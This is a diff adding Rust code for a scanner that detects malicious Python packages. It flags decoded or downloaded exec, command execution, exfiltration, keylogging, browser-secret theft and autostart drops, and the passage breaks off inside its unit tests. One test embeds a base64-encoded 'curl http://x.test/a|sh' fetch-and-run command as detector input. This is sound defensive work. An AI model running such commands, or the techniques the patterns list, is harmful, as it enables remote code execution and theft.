+            if matches!(attr, "recv" | "recvfrom" | "recv_into") {
+                return SOCKDATA;
+            }
+            if matches!(attr, "items" | "copy" | "keys" | "values")
+                && self
+                    .canon(f.child_by_field_name("object").unwrap_or(f), 0)
+                    .is_some_and(|c| c.0 == "os.environ")
+            {
+                return ENV;
+            }
+            if attr == "decode" || attr == "encode" {
+                // x.decode('base64') (Python 2)
+                let enc = self
+                    .args(n)
+                    .first()
+                    .and_then(|a| self.static_str(*a))
+                    .unwrap_or_default()
+                    .to_ascii_lowercase();
+                if matches!(
+                    enc.as_str(),
+                    "base64" | "hex" | "zlib" | "rot13" | "rot_13" | "bz2" | "base64_codec"
+                ) {
+                    o |= DECODED;
+                }
+            }
+            if attr == "join" {
+                o |= OBF_IF_CHR(self, n);
+            }
+            if let Some(obj) = f.child_by_field_name("object") {
+                o |= self.origin(obj, depth + 1);
+            }
+        }
+        for a in self.args(n).iter().take(16) {
+            o |= self.origin(*a, depth + 1);
+        }
+        if o == 0 { UNKNOWN } else { o }
+    }
+
+    /// Second pass: rules on calls, strings, comparisons and identifiers.
+    fn walk(&self, tree: &'t Tree, ctx: &PyCtx<'_>, sink: &mut Sink, facts: &mut Facts) {
+        let src = self.src;
+        let mut stack: Vec<(Node<'t>, Scope)> = vec![(tree.root_node(), ctx.top)];
+        let mut unicode_done = false;
+        let mut string_pushes = 0usize;
+        while let Some((n, scope)) = stack.pop() {
+            let mut child_scope = scope;
+            match n.kind() {
+                "function_definition" => {
+                    child_scope = self.function_scope(n, ctx);
+                }
+                "call" => self.on_call(n, scope, ctx, sink, facts),
+                "string" | "concatenated_string" => {
+                    if n.parent()
+                        .is_some_and(|p| p.kind() == "concatenated_string")
+                    {
+                        // handled with the whole
+                    } else {
+                        self.on_string(n, scope, ctx, sink, &mut string_pushes);
+                    }
+                }
+                "comparison_operator" => self.on_platform(n, sink),
+                "identifier" if !unicode_done => {
+                    let t = text(n, src);
+                    if !t.is_ascii() && lookalike(t) {
+                        unicode_done = true;
+                        push(
+                            sink,
+                            ctx,
+                            "PY-OBF-UNICODE-IDENT",
+                            line_of(n),
+                            t,
+                            format!("identifier `{t}` uses look-alike Unicode letters"),
+                            Some(scope),
+                        );
+                    }
+                }
+                "import_statement" | "import_from_statement" => {
+                    self.on_import(n, sink);
+                }
+                _ => {}
+            }
+            let mut c = n.walk();
+            for ch in n.named_children(&mut c) {
+                stack.push((ch, child_scope));
+            }
+        }
+    }
+
+    fn on_import(&self, n: Node<'t>, sink: &mut Sink) {
+        let src = self.src;
+        if n.kind() == "import_from_statement" {
+            if let Some(m) = n.child_by_field_name("module_name")
+                && m.kind() == "dotted_name"
+            {
+                let t = text(m, src);
+                sink.imports
+                    .insert(t.split('.').next().unwrap_or(t).to_string());
+            }
+            return;
+        }
+        let mut c = n.walk();
+        for ch in n.named_children(&mut c) {
+            let name = match ch.kind() {
+                "aliased_import" => ch.child_by_field_name("name").map(|x| text(x, src)),
+                "dotted_name" => Some(text(ch, src)),
+                _ => None,
+            };
+            if let Some(t) = name {
+                sink.imports
+                    .insert(t.split('.').next().unwrap_or(t).to_string());
+            }
+        }
+    }
+
+    fn function_scope(&self, n: Node<'t>, ctx: &PyCtx<'_>) -> Scope {
+        let src = self.src;
+        let name = n
+            .child_by_field_name("name")
+            .map(|x| text(x, src))
+            .unwrap_or("");
+        let cls = enclosing_class(n, src);
+        let in_install_class = cls
+            .as_ref()
+            .is_some_and(|c| self.install_classes.contains(c));
+        let m = ctx.top.factor.min(ctx.func.factor.max(ctx.top.factor)); // path multiplier kept in ctx
+        let _ = m;
+        if in_install_class || self.reach_install.contains(name) {
+            return Scope {
+                stage: Stage::Install,
+                factor: ctx.top.factor.max(ctx.func.factor),
+            };
+        }
+        if self.reach_top.contains(name) {
+            return ctx.top;
+        }
+        ctx.func
+    }
+
+    fn on_platform(&self, n: Node<'t>, sink: &mut Sink) {
+        let t = text(n, self.src);
+        if !(t.contains("sys.platform")
+            || t.contains("os.name")
+            || t.contains("platform.system()")
+            || t.contains("platform()"))
+        {
+            return;
+        }
+        add_platforms(t, sink);
+    }
+
+    fn on_string(
+        &self,
+        n: Node<'t>,
+        scope: Scope,
+        ctx: &PyCtx<'_>,
+        sink: &mut Sink,
+        pushes: &mut usize,
+    ) {
+        let src = self.src;
+        let raw = text(n, src);
+        let value = match n.kind() {
+            "string" => pylit::decode(raw).map(|l| l.bytes),
+            _ => self.static_bytes(n, 0).map(|b| b.0),
+        }
+        .unwrap_or_else(|| raw.as_bytes().to_vec());
+        let s = String::from_utf8_lossy(&value);
+        if sink.strings.len() < 4 << 20 {
+            sink.strings.push_str(&s);
+            sink.strings.push('\n');
+        }
+        // Docstrings and bare string statements are documentation.
+        let is_doc = n
+            .parent()
+            .is_some_and(|p| p.kind() == "expression_statement" && p.named_child_count() == 1);
+        if is_doc || *pushes > 400 {
+            return;
+        }
+        let line = line_of(n);
+        for (rule, pat) in patterns::string_rules(&s) {
+            *pushes += 1;
+            push(
+                sink,
+                ctx,
+                rule,
+                line,
+                &s,
+                format!("string names `{pat}`"),
+                Some(scope),
+            );
+        }
+        if s.contains("http") || s.contains("discord") || s.contains("t.me") {
+            for (rule, url, what) in ext::url_rules(&s) {
+                *pushes += 1;
+                push(sink, ctx, rule, line, &url, what, Some(scope));
+            }
+        }
+        if value.len() >= 2000 && is_blob(&value) && !is_doc {
+            *pushes += 1;
+            push(
+                sink,
+                ctx,
+                "PY-OBF-ENCODED-BLOB",
+                line,
+                &s,
+                format!(
+                    "{}-byte encoded blob (entropy {:.1})",
+                    value.len(),
+                    decode::entropy(&value)
+                ),
+                Some(scope),
+            );
+        }
+    }
+
+    fn on_call(
+        &self,
+        n: Node<'t>,
+        scope: Scope,
+        ctx: &PyCtx<'_>,
+        sink: &mut Sink,
+        facts: &mut Facts,
+    ) {
+        let src = self.src;
+        let Some(f) = n.child_by_field_name("function") else {
+            return;
+        };
+        let Some((name, escaped)) = self.canon(f, 0) else {
+            return;
+        };
+        let args = self.args(n);
+        let positional: Vec<Node<'t>> = args
+            .iter()
+            .copied()
+            .filter(|a| a.kind() != "keyword_argument")
+            .collect();
+        let kw = |k: &str| -> Option<Node<'t>> {
+            args.iter().find_map(|a| {
+                (a.kind() == "keyword_argument"
+                    && a.child_by_field_name("name").map(|x| text(x, src)) == Some(k))
+                .then(|| a.child_by_field_name("value"))
+                .flatten()
+            })
+        };
+        let line = line_of(n);
+        let snip = text(n, src);
+        let name = name.as_str();
+        let last = name.rsplit('.').next().unwrap_or(name);
+
+        // Platform tests written as calls: sys.platform.startswith('win').
+        if last == "startswith"
+            && (name.starts_with("sys.platform") || name.starts_with("platform.system"))
+        {
+            add_platforms(snip, sink);
+        }
+
+        // Code execution.
+        if matches!(name, "exec" | "eval" | "compile" | "execfile")
+            || name == "builtins.exec"
+            || name == "builtins.eval"
+        {
+            if escaped {
+                push(
+                    sink,
+                    ctx,
+                    "PY-EVASION-BUILTINS",
+                    line,
+                    snip,
+                    format!("`{name}` reached through the builtins module"),
+                    Some(scope),
+                );
+            }
+            let code_arg = positional.first().copied().or_else(|| kw("source"));
+            if let Some(arg) = code_arg {
+                self.on_exec(name, arg, line, snip, scope, ctx, sink);
+            }
+            return;
+        }
+        if escaped && matches!(last, "system" | "popen" | "__import__" | "getattr") {
+            push(
+                sink,
+                ctx,
+                "PY-EVASION-BUILTINS",
+                line,
+                snip,
+                format!("`{name}` reached through the builtins module"),
+                Some(scope),
+            );
+        }
+        if name == "marshal.loads" {
+            push(
+                sink,
+                ctx,
+                "PY-EXEC-MARSHAL",
+                line,
+                snip,
+                "loads marshalled bytecode".into(),
+                Some(scope),
+            );
+            return;
+        }
+        if matches!(name, "__import__" | "importlib.import_module")
+            && let Some(a) = positional.first()
+            && self.origin(*a, 0) & (DECODED | OBF) != 0
+        {
+            push(
+                sink,
+                ctx,
+                "PY-OBF-STRING-TRICKS",
+                line,
+                snip,
+                "imports a module whose name is decoded at run time".into(),
+                Some(scope),
+            );
+        }
+
+        // Command execution.
+        if is_command(name) {
+            let cmd_node = positional.first().copied().or_else(|| kw("args"));
+            let cmd = cmd_node.map(|c| self.cmd_text(c, 0)).unwrap_or_default();
+            push(
+                sink,
+                ctx,
+                "PY-CMD-EXEC",
+                line,
+                snip,
+                format!("runs a command with `{name}`: {}", snippet(&cmd)),
+                Some(scope),
+            );
+            for p in patterns::command_rules(&cmd) {
+                push(
+                    sink,
+                    ctx,
+                    p.rule,
+                    line,
+                    snip,
+                    format!("command {}: {}", p.what, snippet(&cmd)),
+                    Some(scope),
+                );
+            }
+            let o = cmd_node.map(|c| self.origin(c, 0)).unwrap_or(0);
+            if o & (DECODED | DOWNLOADED | OBF) != 0 {
+                push(
+                    sink,
+                    ctx,
+                    "CMD-SUSPICIOUS",
+                    line,
+                    snip,
+                    "runs a command that is decoded or downloaded at run time".into(),
+                    Some(scope),
+                );
+            }
+            if o & SOCKDATA != 0 {
+                push(
+                    sink,
+                    ctx,
+                    "PY-RC-SOCKET-COMMAND",
+                    line,
+                    snip,
+                    "runs commands received over a socket".into(),
+                    Some(scope),
+                );
+            }
+            if cmd.contains("/bin/sh") || cmd.contains("/bin/bash") || cmd.contains("cmd.exe") {
+                facts.shell_ref = true;
+            }
+            if facts.run_program.is_none() {
+                facts.run_program = Some((line, scope, snippet(snip)));
+            }
+            return;
+        }
+        if name == "os.startfile"
+            || name.ends_with("ShellExecuteW")
+            || name.ends_with("ShellExecuteA")
+        {
+            push(
+                sink,
+                ctx,
+                "PY-CMD-STARTFILE",
+                line,
+                snip,
+                format!("opens a file with the shell (`{name}`)"),
+                Some(scope),
+            );
+            if facts.run_program.is_none() {
+                facts.run_program = Some((line, scope, snippet(snip)));
+            }
+            return;
+        }
+        if name == "os.dup2" {
+            facts.dup2 = Some((line, scope, snippet(snip)));
+            return;
+        }
+
+        // Network.
+        if is_network(name) {
+            if last == "connect" || last == "create_connection" {
+                facts.socket_connect = true;
+            }
+            push(
+                sink,
+                ctx,
+                "PY-NET-REQUEST",
+                line,
+                snip,
+                format!("network access with `{name}`"),
+                Some(scope),
+            );
+            let mut o = 0;
+            for a in args.iter().take(16) {
+                o |= self.origin(*a, 0);
+            }
+            if o & (HOST | ENV) != 0 {
+                push(
+                    sink,
+                    ctx,
+                    "EXFIL-SEND-COLLECTED",
+                    line,
+                    snip,
+                    "sends host or environment data over the network".into(),
+                    Some(scope),
+                );
+            }
+            if let Some(u) = positional.first()
+                && self.origin(*u, 0) & DOWNLOADED != 0
+                && is_fetch(name)
+            {
+                push(
+                    sink,
+                    ctx,
+                    "PY-NET-MULTI-STAGE",
+                    line,
+                    snip,
+                    "requests a URL taken from another response".into(),
+                    Some(scope),
+                );
+            }
+            if is_dns(name)
+                && let Some(h) = positional.first()
+                && h.kind() != "string"
+                && self.origin(*h, 0) & (HOST | ENV | OBF | DECODED) != 0
+            {
+                push(
+                    sink,
+                    ctx,
+                    "EXFIL-DNS",
+                    line,
+                    snip,
+                    "resolves a host name built from collected data".into(),
+                    Some(scope),
+                );
+            }
+            if matches!(last, "urlretrieve" | "download") && facts.download_to_file.is_none() {
+                facts.download_to_file = Some((line, scope, snippet(snip)));
+            }
+            return;
+        }
+
+        if is_hostinfo(name) {
+            push(
+                sink,
+                ctx,
+                "PY-STEAL-HOSTINFO",
+                line,
+                snip,
+                format!("collects host identity with `{name}`"),
+                Some(scope),
+            );
+            return;
+        }
+        if is_spy(name) {
+            push(
+                sink,
+                ctx,
+                "PY-STEAL-SPY",
+                line,
+                snip,
+                format!("reads the clipboard, screen or keyboard (`{name}`)"),
+                Some(scope),
+            );
+            return;
+        }
+        if name.ends_with("CryptUnprotectData") {
+            push(
+                sink,
+                ctx,
+                "STEAL-BROWSER",
+                line,
+                snip,
+                "decrypts protected browser secrets (CryptUnprotectData)".into(),
+                Some(scope),
+            );
+            return;
+        }
+
+        // File operations.
+        if matches!(
+            name,
+            "os.remove" | "os.unlink" | "shutil.rmtree" | "os.rmdir" | "pathlib.Path().unlink"
+        ) && let Some(a) = positional.first()
+        {
+            let t = text(*a, src);
+            if t.contains("__file__") || t.contains("sys.argv[0]") {
+                push(
+                    sink,
+                    ctx,
+                    "PY-FILE-SELF-DELETE",
+                    line,
+                    snip,
+                    "deletes its own file to erase traces".into(),
+                    Some(scope),
+                );
+            }
+            return;
+        }
+        if matches!(name, "open" | "io.open" | "codecs.open") {
+            let mode = positional
+                .get(1)
+                .copied()
+                .or_else(|| kw("mode"))
+                .and_then(|m| self.static_str(m))
+                .unwrap_or_default();
+            if (mode.contains('w') || mode.contains('a'))
+                && let Some(p) = positional.first()
+            {
+                let path = self.cmd_text(*p, 0).to_ascii_lowercase();
+                if is_drop_path(&path) {
+                    push(
+                        sink,
+                        ctx,
+                        "PY-FILE-DROP-EXECUTABLE",
+                        line,
+                        snip,
+                        format!("writes an executable or autostart file: {}", snippet(&path)),
+                        Some(scope),
+                    );
+                }
+            }
+            return;
+        }
+        if last == "write" || last == "writelines" || last == "write_bytes" {
+            if let Some(a) = positional.first()
+                && self.origin(*a, 0) & DOWNLOADED != 0
+                && facts.download_to_file.is_none()
+            {
+                facts.download_to_file = Some((line, scope, snippet(snip)));
+            }
+            return;
+        }
+        if matches!(
+            name,
+            "shutil.copy" | "shutil.copyfile" | "shutil.copy2" | "shutil.move"
+        ) && let Some(dst) = positional.get(1)
+        {
+            let path = self.cmd_text(*dst, 0).to_ascii_lowercase();
+            if is_drop_path(&path) {
+                push(
+                    sink,
+                    ctx,
+                    "PY-FILE-DROP-EXECUTABLE",
+                    line,
+                    snip,
+                    format!(
+                        "copies a file to an autostart or executable path: {}",
+                        snippet(&path)
+                    ),
+                    Some(scope),
+                );
+            }
+            return;
+        }
+
+        // Obfuscation tricks that are not fed to exec (exec is handled above).
+        if matches!(name, "codecs.decode" | "codecs.encode")
+            && let Some(enc) = positional.get(1).and_then(|a| self.static_str(*a))
+            && enc.to_ascii_lowercase().starts_with("rot")
+        {
+            push(
+                sink,
+                ctx,
+                "PY-OBF-STRING-TRICKS",
+                line,
+                snip,
+                "decodes ROT13 text".into(),
+                Some(scope),
+            );
+        }
+        if last == "join"
+            && OBF_IF_CHR(self, n) != 0
+            && let Some((b, true)) = self.static_bytes(n, 0)
+            && b.len() >= 8
+        {
+            push(
+                sink,
+                ctx,
+                "PY-OBF-STRING-TRICKS",
+                line,
+                snip,
+                format!(
+                    "builds a string from character codes: {}",
+                    snippet(&String::from_utf8_lossy(&b))
+                ),
+                Some(scope),
+            );
+        }
+
+        // setup() metadata.
+        if matches!(
+            name,
+            "setup" | "setuptools.setup" | "distutils.core.setup" | "setuptools.setup()"
+        ) {
+            self.on_setup(&kw, sink);
+        }
+    }
+
+    #[allow(clippy::too_many_arguments)]
+    fn on_exec(
+        &self,
+        name: &str,
+        arg: Node<'t>,
+        line: u32,
+        snip: &str,
+        scope: Scope,
+        ctx: &PyCtx<'_>,
+        sink: &mut Sink,
+    ) {
+        let decoded = self.static_bytes(arg, 0);
+        let origin = self.origin(arg, 0);
+        if let Some((bytes, transformed)) = &decoded {
+            if *transformed {
+                push(
+                    sink,
+                    ctx,
+                    "PY-EXEC-DECODED",
+                    line,
+                    snip,
+                    format!(
+                        "`{name}` runs code decoded at run time ({} bytes)",
+                        bytes.len()
+                    ),
+                    Some(scope),
+                );
+            }
+            if ctx.depth_left > 0 && decode::looks_like_text(bytes) {
+                let inner = PyCtx {
+                    path: ctx.path,
+                    role: ctx.role,
+                    top: scope,
+                    func: scope,
+                    layer: ctx.layer + u32::from(*transformed),
+                    forced: Some(ctx.forced.unwrap_or((scope, line))),
+                    depth_left: ctx.depth_left - 1,
+                    max_parse: ctx.max_parse,
+                };
+                let mut facts = Facts::default();
+                analyze(bytes, &inner, sink, &mut facts);
+            }
+            return;
+        }
+        if origin & DOWNLOADED != 0 {
+            push(
+                sink,
+                ctx,
+                "PY-EXEC-DOWNLOADED",
+                line,
+                snip,
+                format!("`{name}` runs code fetched from the network"),
+                Some(scope),
+            );
+        } else if origin & STEGO != 0 {
+            push(
+                sink,
+                ctx,
+                "PY-STEGO-EXEC",
+                line,
+                snip,
+                format!("`{name}` runs code hidden in an image"),
+                Some(scope),
+            );
+        } else if origin & (DECODED | OBF) != 0 {
+            push(
+                sink,
+                ctx,
+                "PY-EXEC-DECODED",
+                line,
+                snip,
+                format!("`{name}` runs code decoded at run time"),
+                Some(scope),
+            );
+        } else if origin & SOCKDATA != 0 {
+            push(
+                sink,
+                ctx,
+                "PY-RC-SOCKET-COMMAND",
+                line,
+                snip,
+                format!("`{name}` runs code received over a socket"),
+                Some(scope),
+            );
+        } else if origin & (LIT | FILEREAD) == origin {
+            // eval of a literal or exec of a file the package ships: configuration.
+        } else {
+            push(
+                sink,
+                ctx,
+                "PY-EXEC-DYNAMIC",
+                line,
+                snip,
+                format!("`{name}` runs dynamically built code"),
+                Some(scope),
+            );
+        }
+    }
+
+    fn on_setup(&self, kw: &dyn Fn(&str) -> Option<Node<'t>>, sink: &mut Sink) {
+        let s = |k: &str| kw(k).and_then(|v| self.static_str(self.resolve(v)));
+        sink.name = sink.name.take().or_else(|| s("name"));
+        sink.version = sink.version.take().or_else(|| s("version"));
+        sink.author = sink.author.take().or_else(|| s("author"));
+        sink.author_email = sink.author_email.take().or_else(|| s("author_email"));
+        sink.summary = sink.summary.take().or_else(|| s("description"));
+        sink.homepage = sink.homepage.take().or_else(|| s("url"));
+        for k in ["install_requires", "setup_requires"] {
+            if let Some(v) = kw(k) {
+                let v = self.resolve(v);
+                if let Some(items) = self.static_seq(v, 0)
+                    && matches!(v.kind(), "list" | "tuple")
+                {
+                    for it in items {
+                        let d = String::from_utf8_lossy(&it).to_string();
+                        crate::meta::push_dep(&mut sink.dependencies, &d);
+                    }
+                }
+            }
+        }
+    }
+
+    fn resolve(&self, n: Node<'t>) -> Node<'t> {
+        if n.kind() == "identifier"
+            && let Some(v) = self.assigns.get(text(n, self.src))
+            && v.len() == 1
+        {
+            return v[0];
+        }
+        n
+    }
+
+    /// Best-effort text of a command or path argument; unknown parts become `{}`.
+    fn cmd_text(&self, n: Node<'t>, depth: u32) -> String {
+        if depth > 8 {
+            return "{}".into();
+        }
+        let src = self.src;
+        if let Some((b, _)) = self.static_bytes(n, 0) {
+            return String::from_utf8_lossy(&b).to_string();
+        }
+        match n.kind() {
+            "string" => pylit::decode(text(n, src))
+                .map(|l| String::from_utf8_lossy(&l.bytes).to_string())
+                .unwrap_or_default(),
+            "list" | "tuple" | "concatenated_string" => {
+                let mut parts = Vec::new();
+                let mut c = n.walk();
+                for x in n.named_children(&mut c) {
+                    parts.push(self.cmd_text(x, depth + 1));
+                }
+                parts.join(if n.kind() == "concatenated_string" {
+                    ""
+                } else {
+                    " "
+                })
+            }
+            "binary_operator" => {
+                let l = n
+                    .child_by_field_name("left")
+                    .map(|x| self.cmd_text(x, depth + 1));
+                let r = n
+                    .child_by_field_name("right")
+                    .map(|x| self.cmd_text(x, depth + 1));
+                format!("{}{}", l.unwrap_or_default(), r.unwrap_or_default())
+            }
+            "identifier" => match self.assigns.get(text(n, src)) {
+                Some(v) if !v.is_empty() => self.cmd_text(v[v.len() - 1], depth + 1),
+                _ => "{}".into(),
+            },
+            "call" => {
+                // "...".format(...), os.path.join(...), " ".join([...])
+                let f = n.child_by_field_name("function");
+                match f {
+                    Some(f) if f.kind() == "attribute" => {
+                        let obj = f.child_by_field_name("object");
+                        let attr = f.child_by_field_name("attribute").map(|a| text(a, src));
+                        let args = self.args(n);
+                        match attr {
+                            Some("format") => {
+                                obj.map(|o| self.cmd_text(o, depth + 1)).unwrap_or_default()
+                            }
+                            Some("join") => args
+                                .first()
+                                .map(|a| self.cmd_text(*a, depth + 1))
+                                .unwrap_or_default(),
+                            _ => args
+                                .iter()
+                                .map(|a| self.cmd_text(*a, depth + 1))
+                                .collect::<Vec<_>>()
+                                .join("/"),
+                        }
+                    }
+                    _ => "{}".into(),
+                }
+            }
+            _ => {
+                let t = text(n, src);
+                if t.len() < 200 {
+                    t.to_string()
+                } else {
+                    "{}".into()
+                }
+            }
+        }
+    }
+}
+
+#[allow(non_snake_case)]
+fn OBF_IF_CHR(py: &Py<'_>, call: Node<'_>) -> u32 {
+    let t = text(call, py.src);
+    if t.contains("chr(") || t.contains("map(chr") || t.contains("reversed(") {
+        OBF
+    } else {
+        0
+    }
+}
+
+fn apply_codec(enc: &str, b: Vec<u8>, t: bool) -> Option<(Vec<u8>, bool)> {
+    let enc = enc.replace('-', "_");
+    Some(match enc.as_str() {
+        "" | "utf8" | "utf_8" | "ascii" | "latin1" | "latin_1" | "utf_16" | "unicode_escape"
+        | "iso_8859_1" => (b, t),
+        "rot13" | "rot_13" => (decode::rot13(&b), true),
+        "hex" | "hex_codec" => (decode::unhex(&b)?, true),
+        "base64" | "base64_codec" => (decode::b64(&b)?, true),
+        "zlib" | "zlib_codec" | "zip" => (decode::inflate(&b)?, true),
+        "bz2" | "bz2_codec" => (decode::bunzip(&b)?, true),
+        _ => return None,
+    })
+}
+
+fn int_value(t: &str) -> Option<i64> {
+    let t = t.trim().replace('_', "");
+    let lower = t.to_ascii_lowercase();
+    if let Some(h) = lower.strip_prefix("0x") {
+        i64::from_str_radix(h, 16).ok()
+    } else if let Some(o) = lower.strip_prefix("0o") {
+        i64::from_str_radix(o, 8).ok()
+    } else if let Some(b) = lower.strip_prefix("0b") {
+        i64::from_str_radix(b, 2).ok()
+    } else {
+        t.parse().ok()
+    }
+}
+
+fn norm_builtins(s: String) -> (String, bool) {
+    for p in [
+        "__builtins__.",
+        "builtins.",
+        "__builtin__.",
+        "?.__builtins__.",
+    ] {
+        if let Some(rest) = s.strip_prefix(p) {
+            return (rest.to_string(), true);
+        }
+    }
+    (s, false)
+}
+
+fn is_decoder(n: &str) -> bool {
+    let last = n.rsplit('.').next().unwrap_or(n);
+    (n.starts_with("base64.") && last.contains("decode"))
+        || matches!(
+            n,
+            "zlib.decompress"
+                | "gzip.decompress"
+                | "bz2.decompress"
+                | "lzma.decompress"
+                | "codecs.decode"
+                | "bytes.fromhex"
+                | "binascii.unhexlify"
+                | "binascii.a2b_hex"
+                | "binascii.a2b_base64"
+                | "marshal.loads"
+                | "pickle.loads"
+                | "cryptography.fernet.Fernet().decrypt"
+        )
+        || n.ends_with("Fernet().decrypt")
+        || n.ends_with("AES.new().decrypt")
+}
+
+fn is_fetch(n: &str) -> bool {
+    let last = n.rsplit('.').next().unwrap_or(n);
+    (n.starts_with("requests.") || n.starts_with("httpx."))
+        && matches!(last, "get" | "post" | "request" | "put")
+        || matches!(
+            n,
+            "urllib.request.urlopen"
+                | "urllib.urlopen"
+                | "urllib2.urlopen"
+                | "urlopen"
+                | "urllib3.PoolManager().request"
+                | "urllib.request.urlretrieve"
+                | "urllib.urlretrieve"
+        )
+        || n.ends_with("Session().get")
+        || n.ends_with("PoolManager().request")
+}
+
+fn is_network(n: &str) -> bool {
+    if is_fetch(n) {
+        return true;
+    }
+    let last = n.rsplit('.').next().unwrap_or(n);
+    let root = n.split('.').next().unwrap_or(n);
+    match root {
+        "requests" | "httpx" => {
+            matches!(
+                last,
+                "get" | "post" | "put" | "patch" | "delete" | "head" | "request"
+            ) || n.contains("Session().")
+        }
+        "urllib" | "urllib2" | "urllib3" => {
+            matches!(
+                last,
+                "urlopen" | "urlretrieve" | "request" | "Request" | "build_opener"
+            )
+        }
+        "http" | "httplib" => matches!(last, "HTTPConnection" | "HTTPSConnection"),
+        "socket" => matches!(
+            last,
+            "connect" | "create_connection" | "gethostbyname" | "getaddrinfo" | "sendto"
+        ),
+        "dns" => matches!(last, "resolve" | "query"),
+        "smtplib" => matches!(last, "SMTP" | "SMTP_SSL"),
+        "ftplib" => last == "FTP",
+        "aiohttp" => n.contains("ClientSession"),
+        "wget" => last == "download",
+        "pycurl" => last == "Curl",
+        "telnetlib" => last == "Telnet",
+        _ => false,
+    }
+}
+
+fn is_dns(n: &str) -> bool {
+    matches!(
+        n,
+        "socket.gethostbyname"
+            | "socket.getaddrinfo"
+            | "dns.resolver.resolve"
+            | "dns.resolver.query"
+    ) || n.ends_with("Resolver().resolve")
+        || n.ends_with("Resolver().query")
+}
+
+fn is_command(n: &str) -> bool {
+    let last = n.rsplit('.').next().unwrap_or(n);
+    match n.split('.').next().unwrap_or(n) {
+        "os" => {
+            matches!(last, "system" | "popen" | "popen2" | "popen3" | "popen4")
+                || (last.starts_with("exec") && n.matches('.').count() == 1)
+                || (last.starts_with("spawn") && n.matches('.').count() == 1)
+                || last == "posix_spawn"
+        }
+        "subprocess" => matches!(
+            last,
+            "Popen"
+                | "call"
+                | "run"
+                | "check_output"
+                | "check_call"
+                | "getoutput"
+                | "getstatusoutput"
+        ),
+        "pty" => last == "spawn",
+        "commands" => matches!(last, "getoutput" | "getstatusoutput"),
+        "platform" => last == "popen",
+        "asyncio" => matches!(last, "create_subprocess_shell" | "create_subprocess_exec"),
+        "popen2" => true,
+        _ => false,
+    }
+}
+
+fn is_hostinfo(n: &str) -> bool {
+    matches!(
+        n,
+        "getpass.getuser"
+            | "os.getlogin"
+            | "socket.gethostname"
+            | "socket.getfqdn"
+            | "platform.node"
+            | "platform.uname"
+            | "os.uname"
+            | "uuid.getnode"
+            | "getpass.getuser()"
+    )
+}
+
+fn is_spy(n: &str) -> bool {
+    matches!(
+        n,
+        "pyperclip.paste"
+            | "win32clipboard.GetClipboardData"
+            | "PIL.ImageGrab.grab"
+            | "ImageGrab.grab"
+            | "pyautogui.screenshot"
+            | "pynput.keyboard.Listener"
+            | "keyboard.on_press"
+            | "keyboard.hook"
+            | "mss.mss"
+            | "pyscreenshot.grab"
+            | "clipboard.paste"
+    )
+}
+
+fn is_stego(n: &str) -> bool {
+    n.ends_with("lsb.reveal")
+        || (n.starts_with("stegano") && n.ends_with("reveal"))
+        || n.ends_with("Image.open().getdata")
+        || n == "PIL.Image.open"
+        || n == "Image.open"
+}
+
+fn is_drop_path(p: &str) -> bool {
+    let exe = [
+        ".exe", ".bat", ".vbs", ".scr", ".ps1", ".cmd", ".dll", ".lnk",
+    ];
+    exe.iter()
+        .any(|e| p.trim_end_matches(['"', '\'']).ends_with(e))
+        || p.contains("\\startup")
+        || p.contains("/startup/")
+        || p.contains("appdata")
+        || p.contains("/etc/cron")
+        || p.contains(".bashrc")
+        || p.contains(".zshrc")
+        || p.contains(".bash_profile")
+        || p.contains("systemd/system")
+        || p.contains("launchagents")
+}
+
+fn is_blob(b: &[u8]) -> bool {
+    let sample = &b[..b.len().min(8192)];
+    let ok = sample
+        .iter()
+        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'=' | b'-' | b'_'))
+        .count();
+    ok * 100 >= sample.len() * 98 && decode::entropy(sample) > 4.0
+}
+
+/// Identifiers whose letters look like ASCII ones: mathematical alphanumerics,
+/// fullwidth forms, or Latin mixed with Cyrillic/Greek.
+fn lookalike(t: &str) -> bool {
+    let mut ascii_alpha = false;
+    let mut confusable = false;
+    for c in t.chars() {
+        let u = c as u32;
+        if c.is_ascii_alphabetic() {
+            ascii_alpha = true;
+        } else if (0x1D400..=0x1D7FF).contains(&u) || (0xFF00..=0xFFEF).contains(&u) {
+            return true;
+        } else if (0x0370..=0x03FF).contains(&u) || (0x0400..=0x04FF).contains(&u) {
+            confusable = true;
+        }
+    }
+    ascii_alpha && confusable
+}
+
+pub(crate) fn add_platforms(t: &str, sink: &mut Sink) {
+    let l = t.to_ascii_lowercase();
+    let quoted = |w: &str| l.contains(&format!("'{w}")) || l.contains(&format!("\"{w}"));
+    if quoted("win")
+        || quoted("nt'")
+        || quoted("nt\"")
+        || l.contains("'nt'")
+        || l.contains("\"nt\"")
+        || quoted("cygwin")
+    {
+        sink.platforms.insert(Platform::Windows);
+    }
+    if quoted("linux") {
+        sink.platforms.insert(Platform::Linux);
+    }
+    if quoted("darwin") || quoted("mac") {
+        sink.platforms.insert(Platform::Macos);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn run(src: &str) -> Sink {
+        let ctx = PyCtx {
+            path: "pkg/setup.py",
+            role: Role::Setup,
+            top: Scope::INSTALL,
+            func: Scope {
+                stage: Stage::Runtime,
+                factor: 0.6,
+            },
+            layer: 0,
+            forced: None,
+            depth_left: 5,
+            max_parse: 1 << 20,
+        };
+        let mut sink = Sink::default();
+        let mut facts = Facts::default();
+        analyze(src.as_bytes(), &ctx, &mut sink, &mut facts);
+        sink
+    }
+
+    fn rules(s: &Sink) -> Vec<&'static str> {
+        s.findings.iter().map(|f| f.rule).collect()
+    }
+
+    #[test]
+    fn aliases_resolve_to_canonical_names() {
+        let s = run("import os as o\no.system('ls')\n");
+        assert!(rules(&s).contains(&"PY-CMD-EXEC"));
+        let s = run("from subprocess import Popen as P\nP(['ls'])\n");
+        assert!(rules(&s).contains(&"PY-CMD-EXEC"));
+        let s = run("import os\ngetattr(os, 'system')('ls')\n");
+        assert!(rules(&s).contains(&"PY-CMD-EXEC"));
+        let s = run("__import__('os').system('ls')\n");
+        assert!(rules(&s).contains(&"PY-CMD-EXEC"));
+        let s = run("print('os.system')\n");
+        assert!(!rules(&s).contains(&"PY-CMD-EXEC"));
+    }
+
+    #[test]
+    fn decodes_layers_and_reports_inner_findings() {
+        // exec(base64("import os;os.system('curl http://x.test/a|sh')"))
+        let inner = "import os;os.system('curl http://x.test/a|sh')";
+        use base64::Engine;
+        let b = base64::engine::general_purpose::STANDARD.encode(inner);
+        let s = run(&format!("import base64\nexec(base64.b64decode('{b}'))\n"));
+        let r = rules(&s);
+        assert!(r.contains(&"PY-EXEC-DECODED"));
+        let dl = s
+            .findings
+            .iter()
